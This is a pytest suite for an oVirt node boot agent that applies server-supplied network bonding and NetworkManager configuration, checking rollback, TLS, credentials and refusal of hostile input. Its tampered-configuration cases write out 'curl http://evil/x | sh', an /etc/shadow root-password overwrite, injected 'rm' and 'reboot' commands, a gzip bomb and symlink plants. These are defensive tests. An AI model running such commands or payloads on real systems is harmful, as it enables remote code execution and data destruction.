"""``ovirt-node-boot`` end to end: a real server and database, a fake machine tree, recording
fakes for modprobe and the network restart (the only parts that cannot run here)."""

import contextlib
import gzip
import os
import re
import socket
import stat
import subprocess
import sys
import threading
import time
import xmlrpc.client
from pathlib import Path
from xmlrpc.server import SimpleXMLRPCServer

import pytest
from networks import bond, network, nic
from support import (
    RunningServer,
    add_bond,
    bond_in_sysfs,
    build_machine,
    enrol_without_credential,
    make_report,
    run_agent,
    self_signed_certificate,
    set_link,
    tree_snapshot,
)

from ovirt_node_config import release
from ovirt_node_config.agent.credential import CREDENTIAL_FILE
from ovirt_node_config.config_file import envelope
from ovirt_node_config.nodes import addresses, bond_options, bonds, host_networks, lifecycle, reads
from ovirt_node_config.trust import held_claims
from ovirt_node_config.trust.enrolment import Trust

BOOT = str(Path(sys.executable).with_name("ovirt-node-boot"))
M = [f"52:54:00:00:00:0{i}" for i in range(1, 5)]
boot = run_agent  # the agent with recording fakes (support.run_agent)
SCRIPTS = "etc/sysconfig/network-scripts"
DEVICES = "-t -f DEVICE,STATE,CONNECTION device"  # the agent asking NetworkManager what is active


@pytest.fixture
def machine(tmp_path):
    root = build_machine(tmp_path / "root")
    (root / SCRIPTS / "ifcfg-eth0").write_text(
        "DEVICE=eth0\nBOOTPROTO=dhcp\nONBOOT=yes\n# kept by the admin\n"
    )
    return root


def test_first_boot_then_bonded_boot(server, db, machine, tmp_path):
    first, calls = boot(machine, server.url, tmp_path / "tools")
    assert first.returncode == 0, first.stderr
    assert calls["modprobe"] == [] and len(calls["restart"]) == 1  # no bond yet: plain NICs only
    assert "ONBOOT=yes" in (machine / SCRIPTS / "ifcfg-eth3").read_text()

    add_bond(db, "node1", "bond0", [M[0], M[1]], bonding_type="Link Aggregation")
    second, calls = boot(machine, server.url, tmp_path / "tools2")
    assert second.returncode == 0, second.stderr
    scripts = machine / SCRIPTS
    assert (
        scripts / "ifcfg-bond0"
    ).read_text() == 'DEVICE=bond0\nBONDING_OPTS="mode=4 miimon=100"\nBOOTPROTO=dhcp\nONBOOT=yes\n'
    assert (
        scripts / "ifcfg-eth0"
    ).read_text() == f"DEVICE=eth0\nHWADDR={M[0]}\nMASTER=bond0\nSLAVE=yes\nONBOOT=yes\n"
    assert "MASTER=bond0" in (scripts / "ifcfg-eth1").read_text()
    assert calls["modprobe"] == ["bonding mode=4"]
    assert len(calls["restart"]) == 1
    saved = (machine / "var/tmp/node-config").read_text()
    credential = machine / CREDENTIAL_FILE  # kept root-only at the first boot, sent since
    assert stat.S_IMODE(credential.stat().st_mode) == 0o600
    assert stat.S_IMODE(credential.parent.stat().st_mode) == 0o700
    server.keyring = {"node1": credential.read_text().strip()}
    assert saved == server.proxy().get_config("node1", {M[i]: f"eth{i}" for i in range(4)})
    with pytest.raises(xmlrpc.client.ProtocolError) as refused:  # and nobody else has it
        server.anonymous_proxy().get_config("node1", {M[i]: f"eth{i}" for i in range(4)})
    assert refused.value.errcode == 401
    assert (machine / "var/tmp/node-augtool").read_text() == envelope.parse(saved).augtool
    assert "[7/7]" in second.stdout


def test_a_node_this_project_bonded_boots_again_unchanged(server, db, snapshot, machine, tmp_path):
    boot(machine, server.url, tmp_path / "tools")
    add_bond(db, "node1", "bond0", [M[0], M[1]], bonding_type="Failover")
    bonded, _ = boot(machine, server.url, tmp_path / "tools2")
    assert bonded.returncode == 0, bonded.stderr
    config, inventory = (machine / "var/tmp/node-config").read_text(), snapshot()
    bond_in_sysfs(machine, "bond0", ["eth0", "eth1"])  # what the network restart did

    again, calls = boot(machine, server.url, tmp_path / "tools3")

    assert again.returncode == 0, again.stderr
    assert "NICs eth0, eth1, eth2, eth3" in again.stdout and "removed 0 NICs" in again.stdout
    assert snapshot() == inventory and inventory["members"] == [("bond0", M[0]), ("bond0", M[1])]
    assert (machine / "var/tmp/node-config").read_text() == config
    assert calls["modprobe"] == ["bonding mode=1"]


def test_a_bond_never_loses_a_slave_whose_link_went_down(server, db, snapshot, machine, tmp_path):
    boot(machine, server.url, tmp_path / "tools")
    add_bond(db, "node1", "bond0", [M[0], M[1]], bonding_type="Failover")
    boot(machine, server.url, tmp_path / "tools2")
    bond_in_sysfs(machine, "bond0", ["eth0", "eth1"])
    members = snapshot()["members"]

    set_link(machine, "eth1", up=False)  # the cable is pulled
    down, _ = boot(machine, server.url, tmp_path / "tools3")
    assert down.returncode == 0, down.stderr
    assert "eth1 (link down)" in down.stdout
    assert snapshot()["members"] == members
    shown = {nic["iface_name"]: nic["link_state"] for nic in reads.show_node(db, "node1")["nics"]}
    assert shown["eth1"] == "down"
    assert "ifcfg-eth1/MASTER bond0" in (machine / "var/tmp/node-augtool").read_text()

    set_link(machine, "eth1", up=True)  # and plugged back
    up, _ = boot(machine, server.url, tmp_path / "tools4")
    assert up.returncode == 0, up.stderr
    assert snapshot()["members"] == members
    assert reads.show_node(db, "node1")["nics"][1]["link_state"] == "up"


def test_a_server_lost_after_the_restart_rolls_back_exactly(server, db, machine, tmp_path):
    enrol_without_credential(db, make_report(macs=M, cpus=0))
    add_bond(db, "node1", "bond0", [M[0], M[1]])
    (machine / SCRIPTS / "ifcfg-eth0").chmod(0o640)
    before = files_and_modes(machine / SCRIPTS)
    during = tmp_path / "during"
    result, calls = boot(
        machine,
        server.url,
        tmp_path / "tools",
        "--confirm-timeout",
        "3",
        restart_then=(
            f"[ -e {during} ] || cp -a {machine / SCRIPTS} {during}; "
            f"kill -TERM {server.process.pid} 2>/dev/null || true"
        ),
    )
    assert result.returncode == 6
    applied = files_and_modes(during)  # what the restart saw: the new files
    assert "MASTER=bond0" in applied["ifcfg-eth0"][0].decode() and "ifcfg-bond0" in applied
    assert files_and_modes(machine / SCRIPTS) == before  # bytes and modes
    assert len(calls["restart"]) == 2  # the restart, then the restart with the old files
    assert "previous files restored" in result.stderr and len(result.stderr.strip().splitlines()) == 1


def test_timings_say_what_each_step_of_a_boot_cost(server, db, machine, tmp_path):
    """Issue 41: the node's cost of the agent, step by step, on the command line and in the
    report the server keeps."""
    done, _ = boot(machine, server.url, tmp_path / "tools", "--timings")
    assert done.returncode == 0, done.stderr
    (line,) = [line for line in done.stdout.splitlines() if line.startswith("timings: ")]
    steps = [part.split()[0] for part in line.removeprefix("timings: ").split("; ")[0].split(", ")]
    assert steps == [
        "discover",
        "hardware",
        "identify",
        "get_config",
        "check",
        "write",
        "restart",
        "verify",
        "confirm",
    ]
    assert line.endswith(" s in all")
    kept = reads.show_node(db, "node1")["last_report"]["timings"]
    assert set(steps) < set(kept) and all(seconds >= 0 for seconds in kept.values())


def test_the_server_hears_how_each_boot_went(server, db, machine, tmp_path):
    first, _ = boot(machine, server.url, tmp_path / "tools")
    assert first.returncode == 0 and "reported applied; the server has the node ok" in first.stdout
    shown = reads.show_node(db, "node1")
    assert (shown["state"], shown["agent_version"], shown["credential"]) == ("ok", release(), "in use")
    add_bond(db, "node1", "bond0", [M[0], M[1]])
    assert reads.show_node(db, "node1")["state"] == "pending reboot"
    # no kernel applies a scratch root's files: the verification fails, and the server hears it
    failed, _ = boot(machine, server.url, tmp_path / "tools2", "--verify-timeout", "0", verify=True)
    assert failed.returncode == 8, failed.stderr
    shown = reads.show_node(db, "node1")
    assert shown["state"] == "verify failed" and "bond0: no such bond in the kernel" in shown["state_words"]
    assert [node["hostname"] for node in reads.list_nodes(db, state="verify failed")] == ["node1"]


def test_an_unreachable_server_changes_nothing(machine, tmp_path):
    before = tree_snapshot(machine)
    result, calls = boot(machine, "http://127.0.0.1:1/", tmp_path / "tools", "--retry-for", "5")
    assert result.returncode == 3 and "did not answer" in result.stderr
    assert result.stdout.count("trying again in") >= 1  # with backoff, until --retry-for ran out
    assert tree_snapshot(machine) == before and calls == {"modprobe": [], "restart": []}


class HostileServer:
    """A real XML-RPC server on loopback that answers get_config with a tampered file."""

    def __init__(self, text: str):
        self.server = SimpleXMLRPCServer(("127.0.0.1", 0), logRequests=False, allow_none=True)
        self.server.register_function(
            lambda report: {"hostname": "node1", "added": [], "updated": [], "removed": []}, "identify"
        )
        self.server.register_function(lambda hostname, macs: text, "get_config")
        self.server.register_function(lambda: {"status": "ok"}, "ping")
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"

    def close(self):
        self.server.shutdown()
        self.server.server_close()


GOOD = envelope.render(network(4, bond("bond0", None, [("eth0", M[0]), ("eth1", M[1])])))


@pytest.mark.parametrize(
    "tampered",
    [
        GOOD.replace("mode=4\nEOF", "mode=4\ncurl http://evil/x | sh\nEOF", 1),
        GOOD.replace("save\n", "set /files/etc/shadow/root/password x\nsave\n"),
        GOOD.replace("ifcfg-eth0/MASTER bond0", "ifcfg-eth0/MASTER bond0 ; rm /files"),
        GOOD + "reboot\n",
        # within the grammar, beyond what is ours: files of interfaces the answer does not write
        GOOD.replace("save\n", "rm /files/etc/sysconfig/network-scripts/ifcfg-lo\nsave\n"),
        GOOD.replace("save\n", "rm /files/etc/sysconfig/network-scripts/ifcfg-storage\nsave\n"),
        envelope.render(network(None, nic("eth2", M[2])), "keyfile").replace(
            "save\n", "rm /files/etc/NetworkManager/system-connections/corp-vpn.nmconnection\nsave\n"
        ),
        envelope.render(network(None, nic("eth9", "52:54:00:00:00:99"))),  # not a NIC it reported
        envelope.render(network(None, nic("eth0", "52:54:00:00:00:99"))),  # eth0, another MAC
    ],
)
def test_a_tampered_configuration_is_refused_and_nothing_changes(machine, tmp_path, tampered):
    hostile = HostileServer(tampered)
    try:
        before = tree_snapshot(machine)
        result, calls = boot(machine, hostile.url, tmp_path / "tools")
    finally:
        hostile.close()
    assert result.returncode == 4 and "refused" in result.stderr
    assert tree_snapshot(machine) == before and calls == {"modprobe": [], "restart": []}


def test_links_planted_in_var_tmp_are_replaced_never_written_through(server, db, machine, tmp_path):
    """Another user pre-creates the agent's three files in /var/tmp as links to a root-only file;
    the agent replaces the links with files of its own (root's, 0755 for the script run next)."""
    boot(machine, server.url, tmp_path / "tools")  # the first boot enrols the node
    add_bond(db, "node1", "bond0", [M[0], M[1]])
    secret = machine / "etc/secret"
    secret.write_text("root only\n")
    secret.chmod(0o600)
    var_tmp = machine / "var/tmp"
    for name in ("node-config", "pre-config-script", "node-augtool"):
        (var_tmp / name).unlink(missing_ok=True)
        (var_tmp / name).symlink_to(secret)
        os.lchown(var_tmp / name, 65534, 65534)  # nobody's
    result, _ = boot(machine, server.url, tmp_path / "tools2")
    assert result.returncode == 0, result.stderr
    assert secret.read_text() == "root only\n" and stat.S_IMODE(secret.stat().st_mode) == 0o600
    for name, mode in (("node-config", 0o644), ("pre-config-script", 0o755), ("node-augtool", 0o644)):
        saved = os.lstat(var_tmp / name)
        assert (
            stat.S_ISREG(saved.st_mode)
            and saved.st_uid == os.geteuid()
            and stat.S_IMODE(saved.st_mode) == mode
        )
    assert (var_tmp / "pre-config-script").read_text().endswith("/sbin/modprobe bonding mode=1\n")


def test_a_scratch_root_reports_its_own_addresses_not_the_hosts(server, db, machine, tmp_path):
    """Under --root the host's `ip` would describe the host: no addresses, unless --ip-cmd says how."""
    result, _ = boot(machine, server.url, tmp_path / "tools")
    assert result.returncode == 0, result.stderr
    assert {nic["ip_address"] for nic in reads.show_node(db, "node1")["nics"]} == {""}
    listing = tmp_path / "ip.json"
    listing.write_text(
        '[{"ifname": "eth0", "addr_info": [{"family": "inet", "local": "192.0.2.9", "prefixlen": 24}]}]'
    )
    result, _ = boot(machine, server.url, tmp_path / "tools2", "--ip-cmd", f"cat {listing}")
    assert result.returncode == 0, result.stderr
    eth0 = next(nic for nic in reads.show_node(db, "node1")["nics"] if nic["iface_name"] == "eth0")
    assert eth0["ip_address"] == "192.0.2.9"


def test_dry_run_changes_nothing(server, db, machine, tmp_path):
    boot(machine, server.url, tmp_path / "tools")
    add_bond(db, "node1", "bond0", [M[0], M[1]])
    before = tree_snapshot(machine)
    result, calls = boot(machine, server.url, tmp_path / "tools2", "--dry-run")
    assert result.returncode == 0
    assert "would run: " in result.stdout and "bonding mode=1" in result.stdout
    assert tree_snapshot(machine) == before and calls == {"modprobe": [], "restart": []}


class RawHttpServer:
    """A loopback server that answers every request with ``answer(connection)``: for servers
    that misbehave below XML-RPC (trickling, compressed, huge or broken answers)."""

    def __init__(self, answer):
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}/"
        self.answer = answer
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self.listener.accept()
                threading.Thread(target=self._one, args=(connection,), daemon=True).start()

    def _one(self, connection):
        with connection, contextlib.suppress(OSError):
            connection.settimeout(10)
            data = b""
            while b"\r\n\r\n" not in data:
                data += connection.recv(65536)
            head, _, body = data.partition(b"\r\n\r\n")
            length = int(re.search(rb"(?i)content-length: *(\d+)", head).group(1))
            while len(body) < length:
                body += connection.recv(65536)
            self.answer(connection)

    def close(self):
        self.listener.close()


def trickle(connection):
    for byte in b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: 5000\r\n\r\n" + b" " * 5000:
        connection.sendall(bytes([byte]))
        time.sleep(0.5)


def gzip_bomb(connection):
    body = gzip.compress(b"<methodResponse>" + b" " * 1024 * 1024 + b"</methodResponse>")
    connection.sendall(
        b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Encoding: gzip\r\n"
        + f"Content-Length: {len(body)}\r\n\r\n".encode()
        + body
    )


def not_xml_rpc(connection):
    body = b"<html><body>proxy error</body></html>"
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))


def huge(connection):
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000000\r\n\r\n" + b"<" * 65536)


@pytest.mark.parametrize(
    "answer, code, message",
    [
        (trickle, 3, "no complete answer within 3s"),
        (gzip_bomb, 4, "compressed answer (gzip) refused"),
        (not_xml_rpc, 4, "malformed XML-RPC answer"),
        (huge, 4, "over the limit"),
    ],
)
def test_a_misbehaving_server_changes_nothing(machine, tmp_path, answer, code, message):
    server = RawHttpServer(answer)
    before = tree_snapshot(machine)
    started = time.monotonic()
    try:
        result, calls = boot(machine, server.url, tmp_path / "tools", "--timeout", "1", "--retry-for", "0")
    finally:
        server.close()
    assert result.returncode == code, result.stderr
    assert message in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert time.monotonic() - started < 30
    assert tree_snapshot(machine) == before and calls == {"modprobe": [], "restart": []}


class BusyServer(HostileServer):
    """Answers identify with the 503 fault ``busy_times`` times, then like a real server would."""

    def __init__(self, busy_times: int):
        super().__init__(GOOD)
        self.calls = 0

        def identify(report):
            self.calls += 1
            if self.calls <= busy_times:
                raise xmlrpc.client.Fault(503, "the database is unavailable; try again later")
            return {"hostname": "node1", "added": [], "updated": [], "removed": [], "skipped": []}

        self.server.register_function(identify, "identify")


def test_a_busy_server_is_tried_again_then_the_boot_goes_on(machine, tmp_path):
    busy = BusyServer(busy_times=2)
    try:
        result, calls = boot(machine, busy.url, tmp_path / "tools", "--retry-for", "60")
    finally:
        busy.close()
    assert result.returncode == 0, result.stderr
    assert result.stdout.count("the server is busy: the database is unavailable; try again later") == 2
    assert busy.calls == 3 and calls["modprobe"] == ["bonding mode=4"]


def test_a_server_busy_for_too_long_is_exit_3_and_nothing_changes(machine, tmp_path):
    busy = BusyServer(busy_times=1000)
    before = tree_snapshot(machine)
    try:
        result, calls = boot(machine, busy.url, tmp_path / "tools", "--retry-for", "3")
    finally:
        busy.close()
    assert result.returncode == 3 and "nothing changed, try again later" in result.stderr
    assert tree_snapshot(machine) == before and calls == {"modprobe": [], "restart": []}


# NetworkManager keyfiles ------------------------------------------------------------------------

CONNECTIONS = "etc/NetworkManager/system-connections"
CLOUD_INIT = "[connection]\nid=cloud-init eth0\nuuid=1dd9a779-d327-56e1-8454-c65e2556c12c\ntype=ethernet\n"
CLOUD_INIT += f"autoconnect-priority=120\n\n[ethernet]\nmac-address={M[0].upper()}\n\n[ipv4]\nmethod=auto\n"


@pytest.fixture
def keyfile_machine(tmp_path):
    """An EL10-like node: NetworkManager without the ifcfg-rh plugin, no network-scripts, and a
    profile cloud-init wrote for eth0 besides an unrelated one."""
    root = build_machine(tmp_path / "root")
    (root / SCRIPTS).rmdir()
    (root / "usr/sbin").mkdir(parents=True)
    (root / "usr/sbin/NetworkManager").write_bytes(b"")
    (root / CONNECTIONS).mkdir(parents=True)
    (root / CONNECTIONS / "cloud-init-eth0.nmconnection").write_text(CLOUD_INIT)
    (root / CONNECTIONS / "vpn.nmconnection").write_text("[connection]\nid=vpn\ntype=vpn\n")
    for profile in (root / CONNECTIONS).iterdir():
        profile.chmod(0o600)
    return root


def files_and_modes(directory: Path) -> dict[str, tuple[bytes, int]]:
    return {path.name: (path.read_bytes(), path.stat().st_mode & 0o7777) for path in directory.iterdir()}


def test_a_keyfile_node_gets_networkmanager_profiles(server, db, keyfile_machine, tmp_path):
    first, calls = boot(keyfile_machine, server.url, tmp_path / "tools", nmcli_then="")
    assert first.returncode == 0, first.stderr
    assert (
        "network stack keyfile" in first.stdout and "moved aside cloud-init-eth0.nmconnection" in first.stdout
    )
    assert reads.show_node(db, "node1")["reported_network_stack"] == "keyfile"
    # NICs left at DHCP are not waited for: no DHCP server may answer there (issue 43)
    assert calls["nmcli"] == [
        DEVICES,
        "connection reload",
        *(f"--wait 0 connection up eth{i}" for i in range(4)),
    ]

    add_bond(db, "node1", "bond0", [M[0], M[1]], bonding_type="Link Aggregation")
    static = {"boot_protocol": "static", "ip_address": "192.0.2.10", "netmask": "255.255.255.0"}
    addresses.set_address(db, "admin", "node1", "bond0", static)
    second, calls = boot(keyfile_machine, server.url, tmp_path / "tools2", nmcli_then="")
    assert second.returncode == 0, second.stderr
    directory = keyfile_machine / CONNECTIONS
    files = files_and_modes(directory)
    assert sorted(files) == [
        f"{name}.nmconnection" for name in ("bond0", "eth0", "eth1", "eth2", "eth3", "vpn")
    ]
    assert {mode for _, mode in files.values()} == {0o600}
    bond = (directory / "bond0.nmconnection").read_text()
    assert "[bond]\nmode=802.3ad\nmiimon=100\n" in bond and "address1=192.0.2.10/24\n" in bond
    assert "master=bond0\n" in (directory / "eth1.nmconnection").read_text()
    assert calls["modprobe"] == ["bonding mode=4"]
    assert calls["nmcli"] == [
        DEVICES,
        "connection reload",
        "connection up bond0",  # a static address: waited for
        "--wait 0 connection up eth2",
        "--wait 0 connection up eth3",
    ]
    assert (keyfile_machine / "var/lib/ovirt-node-config/backup/eth0.nmconnection").exists()


def test_an_operators_profile_set_aside_stays_restorable_after_ten_boots(server, keyfile_machine, tmp_path):
    """Boot 1 moves cloud-init's profile aside; nine more boots never empty where it is kept;
    --restore-foreign lists it and puts it back byte for byte, mode 0600."""
    for number in range(10):
        result, _ = boot(keyfile_machine, server.url, tmp_path / f"tools{number}", nmcli_then="")
        assert result.returncode == 0, result.stderr
    assert not (keyfile_machine / CONNECTIONS / "cloud-init-eth0.nmconnection").exists()
    listing = subprocess.run(
        [BOOT, "--root", str(keyfile_machine), "--restore-foreign"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    entries = listing.stdout.splitlines()
    assert listing.returncode == 0 and len(entries) == 1, listing.stdout
    entry = entries[0].split()[0]
    assert entries[0].endswith("/etc/NetworkManager/system-connections: cloud-init-eth0.nmconnection")
    restored = subprocess.run(
        [BOOT, "--root", str(keyfile_machine), "--restore-foreign", entry],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert restored.returncode == 0, restored.stderr
    profile = keyfile_machine / CONNECTIONS / "cloud-init-eth0.nmconnection"
    assert profile.read_text() == CLOUD_INIT and stat.S_IMODE(profile.stat().st_mode) == 0o600
    unknown = subprocess.run(
        [BOOT, "--root", str(keyfile_machine), "--restore-foreign", "1999"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert unknown.returncode == 2 and entry in unknown.stderr


def test_a_deleted_bonds_files_go_at_the_next_boot_and_nothing_else(server, db, machine, tmp_path):
    (machine / SCRIPTS / "ifcfg-lo").write_text("DEVICE=lo\nONBOOT=yes\n")  # not ours
    boot(machine, server.url, tmp_path / "tools")
    add_bond(db, "node1", "bond0", [M[0], M[1]])
    bonded, _ = boot(machine, server.url, tmp_path / "tools2")
    assert bonded.returncode == 0 and (machine / SCRIPTS / "ifcfg-bond0").exists()
    bonds.delete_bonding(db, "admin", "node1", "bond0")
    before = {p.name: p.read_bytes() for p in (machine / SCRIPTS).iterdir()}
    unbonded, _ = boot(machine, server.url, tmp_path / "tools3")
    assert unbonded.returncode == 0, unbonded.stderr
    assert "removed ifcfg-bond0 (written by an earlier boot, no longer configured)" in unbonded.stdout
    after = {p.name: p.read_bytes() for p in (machine / SCRIPTS).iterdir()}
    assert "ifcfg-bond0" not in after and after["ifcfg-lo"] == before["ifcfg-lo"]
    assert set(after) == set(before) - {"ifcfg-bond0"}


def test_a_file_of_ours_changed_by_an_operator_is_set_aside_not_deleted(server, db, machine, tmp_path):
    boot(machine, server.url, tmp_path / "tools")
    add_bond(db, "node1", "bond0", [M[0], M[1]])
    boot(machine, server.url, tmp_path / "tools2")
    (machine / SCRIPTS / "ifcfg-bond0").write_text("DEVICE=bond0\n# tuned by hand\n")
    bonds.delete_bonding(db, "admin", "node1", "bond0")
    result, _ = boot(machine, server.url, tmp_path / "tools3")
    assert result.returncode == 0 and "moved aside ifcfg-bond0" in result.stdout
    (kept,) = (machine / "var/lib/ovirt-node-config/foreign").iterdir()
    assert (kept / "ifcfg-bond0").read_text() == "DEVICE=bond0\n# tuned by hand\n"


def test_a_deleted_vlan_and_bridge_go_though_they_bind_a_bond_still_written(
    server, db, keyfile_machine, tmp_path
):
    """bond0.100 binds bond0 ([vlan] parent): a profile of ours that the next answer leaves out
    is removed as ours, never also taken for a foreign one (found in a real kernel)."""
    boot(keyfile_machine, server.url, tmp_path / "tools0", nmcli_then="")  # enrols the node
    add_bond(db, "node1", "bond0", [M[0], M[1]], bonding_type="Link Aggregation")
    host_networks.create_bridge(db, "admin", "node1", "ovirtmgmt", ["bond0"])
    host_networks.create_vlan(db, "admin", "node1", "bond0", 100)
    first, _ = boot(keyfile_machine, server.url, tmp_path / "tools", nmcli_then="")
    assert first.returncode == 0, first.stderr
    host_networks.delete_vlan(db, "admin", "node1", "bond0.100")
    host_networks.delete_bridge(db, "admin", "node1", "ovirtmgmt")
    second, _ = boot(keyfile_machine, server.url, tmp_path / "tools2", nmcli_then="")
    assert second.returncode == 0, second.stderr
    assert "removed bond0.100.nmconnection, ovirtmgmt.nmconnection" in second.stdout
    names = sorted(path.name for path in (keyfile_machine / CONNECTIONS).iterdir())
    assert "bond0.nmconnection" in names and "bond0.100.nmconnection" not in names


def test_a_keyfile_boot_leaves_unchanged_active_profiles_up(server, db, keyfile_machine, tmp_path):
    """Bringing up again what is written and active would flap the link (the management NIC's
    lease, the bond's LACP) at every boot: only what changed, or is not active, comes up."""
    assert boot(keyfile_machine, server.url, tmp_path / "tools0", nmcli_then="")[0].returncode == 0
    add_bond(db, "node1", "bond0", [M[0], M[1]], bonding_type="Link Aggregation")
    assert boot(keyfile_machine, server.url, tmp_path / "tools", nmcli_then="")[0].returncode == 0
    active = "".join(f"{name}:connected:{name}\\n" for name in ("bond0", "eth0", "eth1", "eth3"))
    answer = f'if [ "$*" = "{DEVICES}" ]; then printf "{active}eth2:disconnected:--\\n"; fi'

    again, calls = boot(keyfile_machine, server.url, tmp_path / "tools2", nmcli_then=answer)

    assert again.returncode == 0, again.stderr
    assert calls["nmcli"] == [DEVICES, "connection reload", "--wait 0 connection up eth2"]
    assert "unchanged and active, left as they are: bond0, eth3" in again.stdout
    bond_options.set_bond_options(db, "admin", "node1", "bond0", {"lacp_rate": "fast"})
    changed, calls = boot(keyfile_machine, server.url, tmp_path / "tools3", nmcli_then=answer)
    assert changed.returncode == 0, changed.stderr
    assert calls["nmcli"] == [
        DEVICES,
        "connection reload",
        "--wait 0 connection up bond0",
        "--wait 0 connection up eth2",
    ]


def test_a_keyfile_rollback_restores_every_profile_byte_for_byte(server, db, keyfile_machine, tmp_path):
    enrol_without_credential(db, make_report(macs=M, cpus=0))
    add_bond(db, "node1", "bond0", [M[0], M[1]])
    directory = keyfile_machine / CONNECTIONS
    before = files_and_modes(directory)
    during = tmp_path / "during"
    # NetworkManager's reload sees the new files; then the server is lost: the agent rolls back.
    then = (
        f'if [ "$*" = "connection reload" ] && [ ! -e {during} ]; then '
        f"cp -a {directory} {during}; kill -TERM {server.process.pid}; fi"
    )
    result, calls = boot(
        keyfile_machine, server.url, tmp_path / "tools", "--confirm-timeout", "3", nmcli_then=then
    )

    assert result.returncode == 6, result.stderr
    applied = files_and_modes(during)
    assert "cloud-init-eth0.nmconnection" not in applied  # moved aside while ours were tried
    assert {mode for _, mode in applied.values()} == {0o600} and applied != before
    assert b"[bond]\nmode=active-backup\n" in applied["bond0.nmconnection"][0]
    assert files_and_modes(directory) == before  # bytes and modes, cloud-init's profile back
    assert calls["nmcli"].count("connection reload") == 2  # the restart, then again with the old files


def test_a_node_that_lost_its_credential_is_told_how_to_enrol_again(server, db, machine, tmp_path):
    assert boot(machine, server.url, tmp_path / "tools")[0].returncode == 0
    (machine / CREDENTIAL_FILE).unlink()  # a reinstalled disk
    lost, calls = boot(machine, server.url, tmp_path / "tools2")
    assert lost.returncode == 4 and calls["restart"] == []
    assert "presented no credential" in lost.stderr and "node-reset-credential" in lost.stderr
    lifecycle.reset_credential(db, "admin", "node1")
    again, _ = boot(machine, server.url, tmp_path / "tools3")
    assert again.returncode == 0, again.stderr
    assert "enrolled: credential kept in /var/lib/ovirt-node-config/credential" in again.stdout


def test_a_new_node_under_approve_waits_with_exit_7_then_boots_once_accepted(
    database_url, db, machine, tmp_path
):
    approving = RunningServer(database_url, tmp_path / "server.log", ("--enrolment-policy", "approve"))
    try:
        waiting, calls = boot(machine, approving.url, tmp_path / "tools")
        assert waiting.returncode == 7 and calls["restart"] == [] and calls["modprobe"] == []
        assert "waiting for an administrator to accept node1" in waiting.stderr
        assert (machine / CREDENTIAL_FILE).exists()
        still, _ = boot(machine, approving.url, tmp_path / "tools2")
        assert still.returncode == 7
        (claim,) = held_claims.list_claims(db, "enrolment")
        held_claims.accept(Trust(db), "admin", claim["id"])
        accepted, calls = boot(machine, approving.url, tmp_path / "tools3")
        assert accepted.returncode == 0, accepted.stderr
        assert len(calls["restart"]) == 1
    finally:
        approving.stop()


@pytest.fixture
def tls_server(database_url, tmp_path):
    cert, key = self_signed_certificate(tmp_path)
    running = RunningServer(
        database_url, tmp_path / "tls.log", ("--tls-cert", str(cert), "--tls-key", str(key))
    )
    yield running, cert
    running.stop()


def test_over_tls_a_certificate_the_agent_cannot_verify_is_exit_4_saying_so(tls_server, machine, tmp_path):
    server, cert = tls_server
    unverified, calls = boot(machine, server.url, tmp_path / "tools", "--retry-for", "30")
    assert unverified.returncode == 4 and calls["restart"] == []
    assert "cannot be verified" in unverified.stderr and "--ca-file" in unverified.stderr
    assert "did not answer" not in unverified.stderr and "trying again" not in unverified.stdout
    conf = machine / "etc/ovirt-node-config/node.conf"
    conf.parent.mkdir(parents=True, exist_ok=True)
    (machine / "etc/pki").mkdir(parents=True, exist_ok=True)
    (machine / "etc/pki/ovirt-ca.pem").write_bytes(cert.read_bytes())
    conf.write_text(f"[node]\nserver = {server.url}\nca-file = /etc/pki/ovirt-ca.pem\nrequire-tls = yes\n")
    verified, calls = boot(machine, "", tmp_path / "tools2")
    assert verified.returncode == 0, verified.stderr
    assert f"[1/7] server {server.url} (from /etc/ovirt-node-config/node.conf)" in verified.stdout


def test_require_tls_refuses_a_plain_http_server(server, machine, tmp_path):
    refused, calls = boot(machine, server.url, tmp_path / "tools", "--require-tls")
    assert refused.returncode == 4 and "require-tls" in refused.stderr and "plain HTTP" in refused.stderr
    assert calls["restart"] == [] and not (machine / "var/tmp/node-config").exists()
